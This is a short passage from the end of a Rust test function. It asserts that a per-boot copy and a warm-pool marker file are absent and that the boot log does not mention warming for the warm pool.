    assert!(!boot.per_boot_copy().exists(), "{}", booted.log);
    assert!(!boot.warmed_marker().exists(), "{}", booted.log);
    assert!(
        !booted.log.contains("warmed for the warm pool"),
        "{}",
        booted.log
    );
}
